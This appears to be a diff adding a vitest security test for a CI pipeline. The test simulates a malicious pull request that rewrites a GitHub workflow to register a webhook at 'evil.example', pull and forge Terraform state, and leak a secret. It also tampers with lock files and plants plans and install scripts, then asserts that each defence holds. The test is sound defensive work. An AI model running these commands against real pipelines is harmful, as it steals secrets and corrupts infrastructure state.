@@ -1,0 +1,163 @@
+import { execFile } from 'node:child_process';
+import { existsSync } from 'node:fs';
+import { readdir, rm } from 'node:fs/promises';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { expect, it } from 'vitest';
+import { onlyInWholeRun } from '../../harness/extent';
+import { Forge } from './forge';
+import { type JobResult, runJob } from './github';
+import { type Ground, prepareGround } from './ground';
+import { Machine } from './machine';
+import { Repository } from './repository';
+
+type Change = (text: string) => string;
+
+/** A repository whose configuration is applied, and what a pull request then changes. */
+class Attacked {
+  private constructor(
+    readonly ground: Ground,
+    readonly repository: Repository,
+    readonly forge: Forge,
+    readonly machine: Machine,
+    private readonly secrets: Readonly<Record<string, Readonly<Record<string, string>>>>,
+    private readonly base: string,
+  ) {}
+
+  static async prepare(ground: Ground): Promise<Attacked> {
+    const [repository, forge, machine] = await Promise.all([
+      Repository.create('github-actions'),
+      Forge.start(),
+      Machine.create(),
+    ]);
+    const { key } = ground.sandbox.controls.apiKeys.issue({
+      name: 'review',
+      tenant_id: 'ten_acme',
+      scopes: ['webhooks:manage'],
+    });
+    const { SVC_PLAN_PASSPHRASE: _, ...rest } = ground.secrets;
+    const review = { ...rest, SVC_API_KEY: key, PG_CONN_STR: ground.readingConnection };
+    const secrets = { 'svc-review': review, 'svc-plan': ground.secrets, 'svc-production': ground.secrets };
+    const base = await repository.git('rev-parse', 'HEAD');
+    const attacked = new Attacked(ground, repository, forge, machine, secrets, base);
+    for (const job of ['plan', 'apply'])
+      expect((await attacked.run('svc-apply', job, base)).hasFailed).toBe(false);
+    return attacked;
+  }
+
+  run(file: string, job: string, commit: string): Promise<JobResult> {
+    const { ground, repository, forge, machine, secrets } = this;
+    return runJob({ repository, forge, machine, secrets, variables: ground.variables }, file, job, commit);
+  }
+
+  /** A commit on the applied one. A file that does not exist begins empty. */
+  async commit(changes: Readonly<Record<string, Change>>): Promise<string> {
+    await this.repository.git('reset', '--quiet', '--hard', this.base);
+    for (const [file, change] of Object.entries(changes)) await this.repository.edit(file, change);
+    return this.repository.commit('Attack');
+  }
+
+  /** Runs the job that plans after the merge, and returns what its last step has said. */
+  async merge(changes: Readonly<Record<string, Change>>): Promise<JobResult> {
+    await rm(this.machine.kept('svc-plan'), { recursive: true, force: true });
+    return this.run('svc-apply', 'plan', await this.commit(changes));
+  }
+}
+
+it('what a pull request can change of the pipeline gains it no more than docs/security.md says', {
+  timeout: 900_000,
+}, async context => {
+  onlyInWholeRun(context);
+  const ground = await prepareGround(context);
+  const attacked = await Attacked.prepare(ground);
+  const { machine, repository } = attacked;
+
+  // The plan job of a branch has the key and the account of svc-review, and no other secret.
+  const post = (path: string, body: object) =>
+    `curl -s -o /dev/null -w '${path} %{http_code}\\n' -H "Authorization: Bearer $SVC_API_KEY" ` +
+    `-H 'Content-Type: application/json' -d '${JSON.stringify(body)}' "$SVC_BASE_URL/v1/${path}"`;
+  const steal = [
+    post('webhooks', { url: 'https://evil.example/', events: ['alert.created'], secret: 's'.repeat(32) }),
+    post('api_keys', { name: 'evil', tenant_id: 'ten_acme', scopes: [] }),
+    'export PG_SKIP_SCHEMA_CREATION=true PG_SKIP_TABLE_CREATION=true PG_SKIP_INDEX_CREATION=true',
+    'bash pipeline.sh plan -no-color -lock=false -target=svc_webhook_endpoint.alerts > /dev/null && echo PLANNED',
+    '! bash pipeline.sh plan -no-color -lock=false 2>&1',
+    'terraform state pull > stolen.json && jq -r ".resources[].type" stolen.json',
+    'jq ".serial += 1" stolen.json > forged.json && ! terraform state push -lock=false forged.json 2>&1',
+    `echo "passphrase <\${{ secrets.SVC_PLAN_PASSPHRASE }}>"`,
+  ];
+  const changed = await attacked.commit({
+    '.github/workflows/svc-plan.yml': text =>
+      text.replace('run: bash pipeline.sh plan -lock=false', ['run: |', ...steal].join('\n          ')),
+  });
+  const stolen = (await attacked.run('svc-plan', 'plan', changed)).steps['Plan']?.output ?? '';
+  expect(stolen).toContain('webhooks 201\napi_keys 403\nPLANNED\n');
+  expect(stolen).toContain('needs an unrestricted key');
+  expect(stolen).toContain('\nsvc_api_key\nsvc_webhook_endpoint\n');
+  expect(stolen).toContain('permission denied');
+  expect(stolen).toContain('passphrase <>');
+  const before = ground.ids();
+
+  // npm executes no script, and refuses a package with another content than the lock file names.
+  const script = await attacked.merge({
+    'infrastructure/package.json': text =>
+      text.replace('{', '{"scripts":{"preinstall":"touch ../executed"},'),
+  });
+  expect(script.hasFailed).toBe(false);
+  expect(await readdir(machine.checkout)).not.toContain('executed');
+  const otherPackage = await attacked.merge({
+    'infrastructure/package-lock.json': text => text.replace(/sha512-.{8}/, 'sha512-AAAAAAAA'),
+  });
+  expect(otherPackage.steps['Install']?.output).toContain('EINTEGRITY');
+  const otherProvider = await attacked.merge({
+    'infrastructure/.terraform.lock.hcl': text => text.replaceAll(/"(h1|zh):.{8}/g, '"$1:AAAAAAAA'),
+  });
+  expect(otherProvider.steps['Plan']?.output).toMatch(/checksums|does not match/);
+
+  // A plan or a journal in a commit is not used, and a gate needs its policy.
+  const planted = await attacked.merge({
+    'infrastructure/svc.tfplan': () => 'a plan that somebody else has made',
+    'infrastructure/main.tf': text => `${text}\nresource "svc_api_key" "broken" {}\n`,
+    'svc-journal/planted.json': () => '{}',
+  });
+  expect(planted.steps['Report']?.code).toBe(1);
+  expect(planted.summary).toMatch(/failed|no plan/i);
+  expect(await readdir(machine.checkout)).not.toContain('svc-journal');
+  const ungated = await attacked.merge({ 'infrastructure/policy.json': () => '' });
+  expect(ungated.steps['Report']?.code).toBe(1);
+  expect(existsSync(machine.kept('svc-plan'))).toBe(false);
+
+  // Another state, or none: the plan says that it creates everything, and the apply refuses what the platform already has.
+  const pointer = await attacked.merge({
+    'infrastructure/.terraform/terraform.tfstate': () =>
+      '{"version":3,"backend":{"type":"local","config":{"path":"planted.tfstate"},"hash":1}}',
+  });
+  expect(pointer.steps['Plan']?.output).toContain('Backend configuration changed');
+  const elsewhere = await attacked.merge({
+    'infrastructure/main.tf': text => text.replace('security_production', 'elsewhere'),
+  });
+  expect(elsewhere.summary).toMatch(/^\*\*Nobody has reviewed[\s\S]*2 to create/);
+  const head = await repository.git('rev-parse', 'HEAD');
+  const refused = await attacked.run('svc-apply', 'apply', head);
+  expect(refused.steps['Apply']?.output).toMatch(/look_alikes|looks like/i);
+
+  // An artefact that another job has made opens with no passphrase but its own.
+  const artefact = join(machine.kept('svc-plan'), 'plan.tar.gpg');
+  const forged = [
+    '--batch',
+    '--yes',
+    '--pinentry-mode',
+    'loopback',
+    '--passphrase',
+    'x',
+    '--symmetric',
+    '--output',
+    artefact,
+  ];
+  await promisify(execFile)('gpg', [...forged, 'package.json'], {
+    env: { ...process.env, HOME: machine.folder },
+  });
+  const opened = await attacked.run('svc-apply', 'apply', head);
+  expect(opened.steps['Apply']?.output).toContain('decryption failed');
+  expect(ground.ids()).toEqual(before);
+});
